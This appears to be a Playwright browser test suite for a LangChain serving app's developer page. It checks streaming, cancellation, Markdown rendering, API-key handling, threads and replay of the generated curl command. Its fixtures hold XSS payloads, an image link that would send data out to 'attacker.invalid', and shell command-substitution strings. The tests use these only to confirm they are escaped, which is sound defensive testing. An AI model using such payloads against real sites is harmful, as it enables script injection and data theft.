"""The developer page at `/` in a real headless Chromium, against a real server."""

import itertools
import json
import re
import shutil
import subprocess
import time
from collections.abc import Iterator
from pathlib import Path

import httpx
import pytest
from playwright.sync_api import Page, expect

from tests.conftest import FAILED, ServerFactory, offline_settings, upstream_settings
from tests.support.browser import chromium, forget_old_failures, screenshot_path
from tests.support.mock_upstream import MockUpstream, Script
from tests.support.server import LiveServer

KEY = "sk-page-test-0123456789"
STORY = [f"word{i} " for i in range(60)]
MARKDOWN = [
    "## Plan\n\n",
    "Use **SSE**:\n\n",
    "```python\n",
    "def stream(chain):\n",
    "    return chain.astream({})\n",
    "```\n\n",
    '<img src="x" onerror="window.pwned = 1"><script>window.pwned = 2</script>\n',
    '<span id="send">fake</span> [click](javascript:window.pwned=3) ',
    "![chat log](https://attacker.invalid/?q=secret)\n",
]


@pytest.fixture(scope="module", autouse=True)
def _fresh_failure_screenshots() -> None:
    forget_old_failures()


@pytest.fixture
def problems() -> list[str]:
    """What the page threw or logged as an error; a test removes only those it expects."""
    return []


@pytest.fixture
def page(
    request: pytest.FixtureRequest,
    tmp_path: Path,
    problems: list[str],
    start_server: ServerFactory,  # set up first, so the browser closes before servers stop
) -> Iterator[Page]:
    """A fresh Chromium tab; the test fails if the page threw or logged an error, and a failed
    test leaves a screenshot of where the page was in `test-artifacts/`."""
    with chromium(tmp_path / "profile") as context:
        tab = context.new_page()
        tab.on("pageerror", lambda error: problems.append(f"pageerror: {error}"))
        tab.on(
            "console",
            lambda message: (
                problems.append(f"console: {message.text}") if message.type == "error" else None
            ),
        )
        yield tab
        if request.node.stash.get(FAILED, False):
            tab.screenshot(path=screenshot_path(f"FAILED-{request.node.name}"))
    assert problems == []


def _send(page: Page, text: str) -> None:
    page.locator("#message").fill(text)
    page.locator("#message").press("Enter")


def _run_status(url: str, run_id: str) -> str:
    deadline = time.monotonic() + 10
    while True:
        status = str(httpx.get(f"{url}/runs/{run_id}").json()["status"])
        if status != "running" or time.monotonic() > deadline:
            return status
        time.sleep(0.05)


def test_text_grows_while_streaming_and_stop_cancels_the_run(
    page: Page, start_server: ServerFactory, upstream: MockUpstream
) -> None:
    upstream.enqueue(Script(chunks=STORY, delay=0.1))
    server = start_server(upstream_settings(upstream))
    page.goto(server.url)
    _send(page, "Tell me a long story")
    answer = page.locator(".answer .markdown").first
    seen: list[str] = []
    deadline = time.monotonic() + 20
    while len(seen) < 4 and time.monotonic() < deadline:
        text = (answer.text_content() or "").strip()
        if text and (not seen or text != seen[-1]):
            seen.append(text)
        time.sleep(0.05)
    page.screenshot(path=screenshot_path("page-streaming"))
    page.get_by_role("button", name="Stop").click()
    expect(page.locator(".answer.stopped")).to_have_count(1)
    page.screenshot(path=screenshot_path("page-stopped"))

    assert len(seen) == 4, seen
    assert all(later.startswith(earlier) for earlier, later in itertools.pairwise(seen))
    run_id = page.locator(".answer").first.get_attribute("data-run-id")
    assert run_id
    assert _run_status(server.url, run_id) == "cancelled"
    upstream.wait_for_disconnect()
    assert not upstream.last_request.completed
    assert upstream.last_request.chunks_sent < len(STORY)
    expect(page.get_by_role("button", name="Send")).to_be_visible()


def test_markdown_renders_with_highlighted_code_and_no_script_runs(
    page: Page, start_server: ServerFactory, upstream: MockUpstream
) -> None:
    upstream.enqueue(Script(chunks=MARKDOWN, delay=0.02))
    server = start_server(upstream_settings(upstream))
    page.goto(server.url)
    _send(page, "How do I stream a chain?")
    expect(page.locator(".answer.done")).to_have_count(1)
    page.screenshot(path=screenshot_path("page-markdown"))

    body = page.locator(".answer .markdown")
    expect(body.locator("h2")).to_have_text("Plan")
    expect(body.locator("h2")).to_be_visible()
    expect(body.locator("strong")).to_have_text("SSE")
    expect(body.locator("pre code.hljs .hljs-keyword").first).to_have_text("def")
    text = body.text_content() or ""
    # Raw HTML is shown as text, never parsed, so it cannot run, load or pose as a control.
    assert '<img src="x" onerror="window.pwned = 1"><script>' in text
    assert body.locator("script, img, a[href^='javascript'], [id]").count() == 0
    assert page.evaluate("window.pwned") is None
    assert page.locator("#send").text_content() == "Send"
    assert "[image: chat log]" in text  # a Markdown image is not fetched from anywhere
    facts = page.locator(".answer .facts").text_content() or ""
    assert re.search(r"ttft \d+ ms · [\d.]+ tokens/s · usage \d+ in \+ \d+ out", facts), facts
    assert "gpt-4o" in facts


def test_enter_sends_and_shift_enter_breaks_the_line(
    page: Page, start_server: ServerFactory, upstream: MockUpstream
) -> None:
    upstream.enqueue(Script(), Script())
    server = start_server(upstream_settings(upstream))
    page.goto(server.url)
    box = page.locator("#message")
    box.press_sequentially("first line")
    box.press("Shift+Enter")
    box.press_sequentially("second line")
    box.press("Enter")
    expect(page.locator(".answer.done")).to_have_count(1)
    _send(page, "and again")
    expect(page.locator(".answer.done")).to_have_count(2)

    chats = [r for r in upstream.requests if r.path.endswith("/chat/completions")]
    first, second = (r.json["messages"] for r in chats)
    assert first[-1] == {"role": "user", "content": "first line\nsecond line"}
    # The conversation so far goes with the next message.
    assert [m["role"] for m in second[-3:]] == ["user", "assistant", "user"]
    assert second[-2]["content"] == "Hello, world!"


def test_a_form_chain_runs_with_its_knobs_and_the_curl_command_reproduces_it(
    page: Page, offline_server: LiveServer
) -> None:
    page.goto(f"{offline_server.url}/#chain=explain")
    page.get_by_label("Topic").fill("backpressure")
    page.locator(".pane select[data-key=prompt]").select_option("eli5")
    page.get_by_role("button", name="Run").click()
    expect(page.locator(".answer.done")).to_have_count(1)
    answer = page.locator(".answer .markdown").inner_text()
    page.locator(".answer .curl summary").click()
    command = page.locator(".answer .curl pre").text_content() or ""
    page.screenshot(path=screenshot_path("page-form"))

    assert "curious five-year-old" in answer
    assert '"configurable":{"prompt":"eli5"}' in command
    assert "temperature" not in command  # only what differs from the defaults
    bash, curl = shutil.which("bash"), shutil.which("curl")
    if bash is None or curl is None:
        pytest.skip("bash or curl is not installed: the command cannot be replayed")
    replayed = subprocess.run(
        [bash, "-c", command], capture_output=True, text=True, timeout=30, check=True
    ).stdout
    tokens = [json.loads(line[6:]) for line in replayed.splitlines() if line.startswith('data: "')]
    assert " ".join("".join(tokens).split()) == " ".join(answer.split())


def test_compare_streams_one_input_through_two_configurations_at_once(
    page: Page, start_server: ServerFactory, upstream: MockUpstream
) -> None:
    # Each answer holds after its first words until released: both panes must be streaming
    # at the same moment to get there.
    upstream.enqueue(*(Script(chunks=["Streaming", " here"], hold_after=1) for _ in range(2)))
    server = start_server(upstream_settings(upstream, allowed_models=["gpt-4o", "gpt-4o-mini"]))
    page.goto(server.url)
    page.get_by_role("button", name="Compare").click()
    page.locator("[data-pane=B] select[data-key=model]").select_option("gpt-4o")
    page.locator("[data-pane=B] input[data-key=temperature]").fill("0.25")
    _send(page, "Same question")
    expect(page.locator(".answer.streaming .markdown", has_text="Streaming")).to_have_count(2)
    page.screenshot(path=screenshot_path("page-compare"))
    upstream.release()
    expect(page.locator(".answer.done .markdown", has_text="Streaming here")).to_have_count(2)

    requests = [r for r in upstream.requests if r.path.endswith("/chat/completions")]
    assert sorted((r.json["model"], r.json["temperature"]) for r in requests) == [
        ("gpt-4o", 0.25), ("gpt-4o-mini", 0.7),
    ]  # fmt: skip
    facts = page.locator(".answer .facts").all_text_contents()
    assert "gpt-4o-mini" in facts[0]
    assert "gpt-4o ·" in facts[1]
    # "Clear" empties both transcripts and keeps each side's knobs.
    page.get_by_role("button", name="Clear").click()
    expect(page.locator(".turn")).to_have_count(0)
    expect(page.locator("[data-pane=B] select[data-key=model]")).to_have_value("gpt-4o")
    expect(page.locator("[data-pane=A] select[data-key=model]")).to_have_value("gpt-4o-mini")


def _expect_refusals(problems: list[str], status: int) -> None:
    """Chromium logs every refused fetch as a console error; these ones the test caused."""
    problems[:] = [p for p in problems if f"status of {status}" not in p]


def test_a_keyed_server_asks_for_the_key_and_never_writes_it_into_curl(
    page: Page, problems: list[str], start_server: ServerFactory
) -> None:
    server = start_server(offline_settings(api_keys=KEY))
    page.goto(server.url)
    expect(page.locator("#key-reason")).to_contain_text("an API key is required")
    page.get_by_label("API key").fill(KEY)
    page.get_by_role("button", name="Use key").click()
    expect(page.locator("#key-panel")).to_be_hidden()
    _send(page, "hello with a key")
    expect(page.locator(".answer.done")).to_have_count(1)
    command = page.locator(".answer .curl pre").text_content() or ""

    assert "$CHAINSERVE_API_KEY" in command
    assert KEY not in command
    assert KEY not in page.content()
    _expect_refusals(problems, 401)


def test_errors_are_shown_plainly_and_the_failed_message_is_not_resent(
    page: Page, problems: list[str], start_server: ServerFactory
) -> None:
    server = start_server(offline_settings(max_input_tokens=20))
    page.goto(server.url)
    _send(page, "far too many words " * 20)
    expect(page.locator(".answer.failed .problem")).to_contain_text("HTTP 413 · input_too_large: ")
    page.screenshot(path=screenshot_path("page-error"))
    expect(page.locator(".sent.left-out")).to_have_count(1)
    _send(page, "short")
    expect(page.locator(".answer.done")).to_have_count(1)
    assert "This conversation has" not in (page.locator(".answer.done").text_content() or "")
    _expect_refusals(problems, 413)


def test_a_retrieval_chain_shows_its_sources(page: Page, offline_server: LiveServer) -> None:
    document = {
        "id": "sse-guide",
        "text": "# Keepalives\n\nchainserve sends a comment line every 15 seconds so proxies keep "
        "an idle stream open.",
        "metadata": {"title": "SSE guide"},
    }
    ingest = httpx.post(
        f"{offline_server.url}/collections/default/documents",
        json={"documents": [document]},
        timeout=120,
    )
    assert ingest.status_code < 300, ingest.text
    page.goto(f"{offline_server.url}/#chain=rag")
    page.get_by_label("Question").fill("How often are keepalives sent?")
    page.locator("#fields textarea").press("Enter")
    expect(page.locator(".answer.done")).to_have_count(1, timeout=20_000)
    sources = page.locator(".answer .sources")
    sources.locator("summary").click()
    page.screenshot(path=screenshot_path("page-sources"))

    expect(sources.locator("summary")).to_have_text("Sources (1)")
    expect(sources.locator("li strong")).to_have_text("SSE guide")
    expect(sources.locator("blockquote")).to_contain_text("every 15 seconds")


def test_the_event_reader_follows_the_sse_standard(page: Page, offline_server: LiveServer) -> None:
    """Line ends of every kind, split anywhere across reads, a BOM, comments, multi-line data."""
    page.goto(offline_server.url)
    events = page.evaluate(
        """async (pieces) => {
          const { readEvents } = await import("./static/js/sse.js");
          const bytes = new TextEncoder();
          const body = new ReadableStream({
            start(controller) {
              for (const piece of pieces) controller.enqueue(bytes.encode(piece));
              controller.close();
            },
          });
          const seen = [];
          for await (const e of readEvents(body)) seen.push([e.event, e.data, e.id]);
          return seen;
        }""",
        [
            "\ufeff\ufeffevent: a\r",
            "\ndata: 1\r\ndata:  2\r",
            "\r: keepalive\n\ndata:x\n",
            "\nevent: b\ndata\n\nevent: c\n\nid: 7\ndata: é",
            "\u00e8\n\ndata: last\r\r",
        ],
    )
    # The decoder drops one BOM; a second makes "\ufeffevent" an unknown field (ignored).
    assert events == [
        ["message", "1\n 2", None], ["message", "x", None], ["b", "", None],
        ["message", "éè", "7"], ["message", "last", "7"],
    ]  # fmt: skip


def test_only_strings_and_model_messages_read_as_text(
    page: Page, offline_server: LiveServer
) -> None:
    page.goto(offline_server.url)
    pieces = page.evaluate(
        """async () => {
          const { textOf } = await import("./static/js/run.js");
          return [
            textOf("plain"),
            textOf({ type: "AIMessageChunk", content: "message chunk" }),
            textOf({ type: "ai", content: [{ type: "text", text: "a" }, "b", { type: "image" }] }),
            textOf({ answer: 42, content: "a key named content" }),
          ];
        }"""
    )
    # A value is not text: its `object` events draw it, once, in place.
    assert pieces == ["plain", "message chunk", "ab", ""]


def test_the_curl_command_reproduces_any_message_byte_for_byte(
    page: Page, start_server: ServerFactory, upstream: MockUpstream, tmp_path: Path
) -> None:
    """Quotes, newlines, `$(...)`, backticks and backslashes survive the shell unchanged."""
    bash, curl = shutil.which("bash"), shutil.which("curl")
    if bash is None or curl is None:
        pytest.skip("bash or curl is not installed: the command cannot be replayed")
    upstream.enqueue(Script(), Script())
    server = start_server(upstream_settings(upstream))
    message = 'it\'s "quoted" $(touch pwned) `touch pwned2` ${HOME} \\n\nsecond line\t!'
    page.goto(server.url)
    page.locator("#message").fill(message)
    page.locator("#message").press("Enter")
    expect(page.locator(".answer.done")).to_have_count(1)
    command = page.locator(".answer .curl pre").text_content() or ""
    subprocess.run([bash, "-c", command], capture_output=True, timeout=30, check=True, cwd=tmp_path)

    browser_sent, curl_sent = (r.json["messages"][-1] for r in upstream.requests)
    assert browser_sent == curl_sent == {"role": "user", "content": message}
    assert not (tmp_path / "pwned").exists()
    assert not (tmp_path / "pwned2").exists()


def test_entering_the_key_again_mid_conversation_keeps_it(
    page: Page, problems: list[str], start_server: ServerFactory
) -> None:
    server = start_server(offline_settings(api_keys=KEY))
    page.goto(server.url)
    page.get_by_label("API key").fill(KEY)
    page.get_by_role("button", name="Use key").click()
    _send(page, "first")
    expect(page.locator(".answer.done")).to_have_count(1)
    page.evaluate("sessionStorage.setItem('chainserve.apiKey', 'sk-revoked-0000000000')")
    _send(page, "second")
    expect(page.locator("#key-reason")).to_contain_text("not valid")
    expect(page.locator("#message")).to_have_value("second")  # back in the box to resend
    page.get_by_label("API key").fill(KEY)
    page.get_by_role("button", name="Use key").click()
    expect(page.locator("#key-panel")).to_be_hidden()
    page.locator("#message").press("Enter")
    expect(page.locator(".answer.done")).to_have_count(2)

    answers = page.locator(".answer.done .markdown").all_inner_texts()
    assert "This conversation has 3 messages" in answers[1]  # first, its answer, second
    assert page.locator(".sent").count() == 3  # the refused one stays, greyed out
    # Any refused call asks for the key, not only a run: here starting a thread.
    page.evaluate("sessionStorage.setItem('chainserve.apiKey', 'sk-revoked-0000000000')")
    page.get_by_role("button", name="New thread").click()
    expect(page.locator("#key-panel")).to_be_visible()
    expect(page.locator("#key-reason")).to_contain_text("not valid")
    _expect_refusals(problems, 401)


def test_escape_stops_a_run_that_has_not_started_streaming(
    page: Page, start_server: ServerFactory, upstream: MockUpstream
) -> None:
    """Before the first token the server has sent nothing yet (so it can still answer with a
    status); Escape must still reach it as a hang-up that stops the upstream call."""
    upstream.enqueue(Script(hold_after=0))
    server = start_server(upstream_settings(upstream))
    page.goto(f"{server.url}/#chain=chat")
    _send(page, "wait for it")
    upstream.wait_for_requests(1)
    page.keyboard.press("Escape")
    expect(page.locator(".answer.stopped")).to_have_count(1)

    upstream.wait_for_disconnect()
    assert not upstream.last_request.completed
    facts = page.locator(".answer .facts").text_content() or ""
    assert "stopped after 0 chunks" in facts
    expect(page.get_by_role("button", name="Send")).to_be_enabled()


def test_a_run_failing_mid_stream_keeps_its_text_and_says_why(
    page: Page, start_server: ServerFactory, upstream: MockUpstream
) -> None:
    upstream.enqueue(Script(chunks=["Partial", " answer", " lost"], drop_after=2))
    server = start_server(upstream_settings(upstream))
    page.goto(server.url)
    _send(page, "go")
    expect(page.locator(".answer.failed")).to_have_count(1)

    expect(page.locator(".answer .markdown")).to_have_text("Partial answer")
    expect(page.locator(".answer .problem")).to_contain_text("Run failed · ")
    expect(page.get_by_role("button", name="Send")).to_be_enabled()


def test_finished_blocks_are_drawn_once_while_the_answer_streams(
    page: Page, start_server: ServerFactory, upstream: MockUpstream
) -> None:
    """Only the block being written is redrawn, so a long answer costs no more per frame than
    a short one: finished blocks are never removed and redrawn while it streams."""
    paragraphs = [f"Paragraph {i}.\n\n" for i in range(30)]
    upstream.enqueue(Script(chunks=paragraphs, hold_after=20))
    server = start_server(upstream_settings(upstream))
    page.goto(server.url)
    _send(page, "many paragraphs")
    done = page.locator(".answer.streaming .blocks:not(.live)")
    expect(done).to_contain_text("Paragraph 18.")
    live = page.locator(".answer.streaming .live").text_content() or ""
    page.evaluate(
        """() => {
          window.removed = 0;
          new MutationObserver((changes) => {
            for (const change of changes) window.removed += change.removedNodes.length;
          }).observe(document.querySelector(".answer .blocks"), { childList: true, subtree: true });
        }"""
    )
    upstream.release()
    expect(page.locator(".answer.done")).to_have_count(1)

    assert "Paragraph 0." not in live
    assert page.evaluate("window.removed") == 0
    rendered = page.locator(".answer .markdown p").all_text_contents()
    assert rendered == [f"Paragraph {i}." for i in range(30)]


def test_compare_gives_the_second_pane_no_thread_of_its_own(
    page: Page, offline_server: LiveServer
) -> None:
    """Two panes writing to one server-side thread would mix their conversations."""
    thread = httpx.post(f"{offline_server.url}/threads").json()["thread_id"]
    page.goto(offline_server.url)
    page.locator("[data-pane=A] input[data-key=thread_id]").fill(thread)
    page.get_by_role("button", name="Compare").click()
    expect(page.locator("[data-pane=B] input[data-key=thread_id]")).to_have_value("")
    _send(page, "one")
    expect(page.locator(".answer.done")).to_have_count(2)

    messages = httpx.get(f"{offline_server.url}/threads/{thread}").json()["messages"]
    assert [m["content"] for m in messages if m["role"] in ("user", "human")] == ["one"]


def test_a_thread_shows_its_conversation_and_the_server_keeps_it(
    page: Page, problems: list[str], offline_server: LiveServer
) -> None:
    thread = httpx.post(f"{offline_server.url}/threads").json()["thread_id"]
    first = {
        "input": {"messages": [{"role": "user", "content": "remember me"}]},
        "thread_id": thread,
    }
    httpx.post(f"{offline_server.url}/chains/chat/invoke", json=first).raise_for_status()
    page.goto(f"{offline_server.url}/#chain=chat")
    knob = page.locator("[data-pane=A] input[data-key=thread_id]")
    knob.fill(thread)
    knob.press("Tab")
    expect(page.locator(".sent")).to_have_text(["remember me"])
    _send(page, "and now?")
    expect(page.locator(".answer.done")).to_have_count(2)

    assert "This conversation has 3 messages" in page.locator(".answer.done").last.inner_text()
    stored = httpx.get(f"{offline_server.url}/threads/{thread}").json()["messages"]
    assert [m["content"] for m in stored if m["role"] == "user"] == ["remember me", "and now?"]
    page.get_by_role("button", name="New thread").click()
    expect(knob).to_have_value(re.compile(r"^(?!" + thread + r")[0-9a-f]{32}$"))
    expect(page.locator(".turn")).to_have_count(0)
    knob.fill("no-such-thread")
    knob.press("Tab")
    expect(page.locator(".pane .problem")).to_have_text(
        "HTTP 404 · not_found: no thread 'no-such-thread'; create one with POST /threads"
    )
    _expect_refusals(problems, 404)


def test_a_stopped_answer_on_a_thread_is_left_out_as_the_server_leaves_it_out(
    page: Page, start_server: ServerFactory, upstream: MockUpstream
) -> None:
    upstream.enqueue(Script(chunks=["Kept."]), Script(chunks=STORY, delay=0.1), Script())
    server = start_server(upstream_settings(upstream))
    page.goto(server.url)
    page.get_by_role("button", name="New thread").click()
    thread_box = page.locator("input[data-key=thread_id]")
    expect(thread_box).to_have_value(re.compile("^[0-9a-f]{32}$"))
    _send(page, "first")
    expect(page.locator(".answer.done")).to_have_count(1)
    _send(page, "second")
    expect(page.locator(".answer.streaming .markdown")).to_contain_text("word2")
    expect(thread_box).to_be_disabled()  # the run belongs to the conversation on show
    page.keyboard.press("Escape")
    expect(page.locator(".answer.stopped")).to_have_count(1)
    expect(thread_box).to_be_enabled()
    _send(page, "third")
    expect(page.locator(".answer.done")).to_have_count(2)

    expect(page.locator(".sent.left-out")).to_have_text(["second"])
    thread = httpx.get(f"{server.url}/threads/{thread_box.input_value()}").json()
    assert [m["content"] for m in thread["messages"] if m["role"] == "user"] == ["first", "third"]
    last = upstream.requests[-1].json["messages"]
    assert [m["content"] for m in last if m["role"] == "user"] == ["first", "third"]


def test_an_emptied_knob_means_its_default_and_ids_lose_pasted_spaces(
    page: Page, offline_server: LiveServer
) -> None:
    thread = httpx.post(f"{offline_server.url}/threads").json()["thread_id"]
    page.goto(f"{offline_server.url}/#chain=rag")
    page.locator("input[data-key=collection]").fill("")
    page.get_by_label("Question").fill("anything?")
    page.get_by_role("button", name="Run").click()
    expect(page.locator(".answer.done")).to_have_count(1)
    assert "collection" not in (page.locator(".answer .curl pre").text_content() or "")
    page.locator("#chain").select_option("chat")
    page.locator("input[data-key=thread_id]").fill(f"  {thread} ")
    _send(page, "on the thread")
    expect(page.locator(".answer.done")).to_have_count(1)
    stored = httpx.get(f"{offline_server.url}/threads/{thread}").json()["messages"]
    assert [m["content"] for m in stored if m["role"] == "user"] == ["on the thread"]


def test_optional_choices_start_unset_and_keep_their_types(
    page: Page, offline_server: LiveServer
) -> None:
    """A form from a schema with `X | None = None` enums and booleans and an integer enum."""
    page.goto(offline_server.url)
    values = page.evaluate(
        """async () => {
          const { buildSchemaForm } = await import("./static/js/schema_form.js");
          const schema = {
            type: "object",
            required: ["level"],
            properties: {
              level: { enum: [1, 2, 3], type: "integer" },
              mode: { anyOf: [{ $ref: "#/$defs/Mode" }, { type: "null" }], default: null },
              strict: { anyOf: [{ type: "boolean" }, { type: "null" }], default: null },
              note: { anyOf: [{ type: "string" }, { type: "null" }], default: null },
            },
            $defs: { Mode: { enum: ["fast", "careful"], type: "string" } },
          };
          const box = document.createElement("div");
          const form = buildSchemaForm(schema, box);
          const untouched = form.values();
          box.querySelector("[name=level]").selectedIndex = 1;
          box.querySelector("[name=mode]").selectedIndex = 2;
          box.querySelector("[name=strict]").selectedIndex = 2;
          box.querySelector("[name=note]").value = "hello";
          return [untouched, form.values()];
        }"""
    )
    assert values == [
        {"level": 1},
        {"level": 2, "mode": "careful", "strict": False, "note": "hello"},
    ]


def test_arrow_keys_on_the_chain_list_keep_the_focus_there(
    page: Page, offline_server: LiveServer
) -> None:
    names = [c["name"] for c in httpx.get(f"{offline_server.url}/chains").json()["chains"]]
    page.goto(offline_server.url)
    expect(page.locator("#message")).to_be_focused()
    page.locator("#chain").focus()
    page.keyboard.press("ArrowDown")
    expect(page.locator("#chain")).to_have_value(names[1])
    expect(page.locator("#chain")).to_be_focused()


def test_on_a_small_screen_the_page_follows_the_streaming_answer(
    page: Page, start_server: ServerFactory, upstream: MockUpstream
) -> None:
    """Below 800 px the page scrolls as a whole, and the newest answer stays in view."""
    lines = [f"Line {i} of a long answer.\n\n" for i in range(40)]
    upstream.enqueue(Script(chunks=lines, delay=0.01), Script(chunks=lines, delay=0.01))
    server = start_server(upstream_settings(upstream))
    page.set_viewport_size({"width": 600, "height": 700})
    page.goto(server.url)
    for done, message in enumerate(("one", "two"), start=1):
        _send(page, message)
        expect(page.locator(".answer.done")).to_have_count(done)

    last = page.locator(".answer").last.locator(".facts").bounding_box()
    assert last is not None
    assert page.evaluate("window.scrollY") > 0
    assert last["y"] + last["height"] <= 700


def test_an_agents_tool_steps_show_as_collapsed_steps_above_its_answer(
    page: Page, offline_server: LiveServer
) -> None:
    page.goto(f"{offline_server.url}/#chain=agent")
    _send(page, "What is 2 + 3 * 4?")
    expect(page.locator(".answer.done")).to_have_count(1, timeout=20_000)
    step = page.locator(".answer .tool-step")
    expect(step).to_have_count(1)
    expect(step.locator("summary")).to_have_text("Tool: calculator → 14")
    expect(step.locator(".tool-input")).not_to_be_visible()
    step.locator("summary").click()
    expect(step.locator(".tool-input")).to_contain_text('"expression": "2 + 3 * 4"')
    expect(page.locator(".answer .markdown")).to_contain_text("The calculator tool returned")
    page.screenshot(path=screenshot_path("page-agent-steps"))


def test_a_structured_output_is_one_object_updated_in_place(
    page: Page, start_server: ServerFactory
) -> None:
    from langchain_core.prompts import ChatPromptTemplate
    from pydantic import BaseModel

    from chainserve.chains import ChainSpec, ModelConfig, build_model

    class Question(BaseModel):
        question: str

    class Verdict(BaseModel):
        guilty: bool
        reason: str

    def build(config: ModelConfig) -> object:
        prompt = ChatPromptTemplate.from_template("{question}")
        return prompt | build_model(config).with_structured_output(Verdict)

    spec = ChainSpec("verdict", "A verdict.", build, Question)  # type: ignore[arg-type]
    server = start_server(offline_settings(example_chains=False), [spec])
    page.goto(f"{server.url}/#chain=verdict")
    question = "Why is the sky blue on a clear summer day?"
    page.get_by_label("Question").fill(question)
    page.locator("#fields textarea").press("Enter")
    expect(page.locator(".answer.done")).to_have_count(1, timeout=20_000)
    drawn = page.locator(".answer pre.object")
    expect(drawn).to_have_count(1)
    assert json.loads(drawn.text_content() or "") == {"guilty": True, "reason": question}
    expect(page.locator(".answer .markdown pre")).to_have_count(0)
    page.screenshot(path=screenshot_path("page-structured-output"))
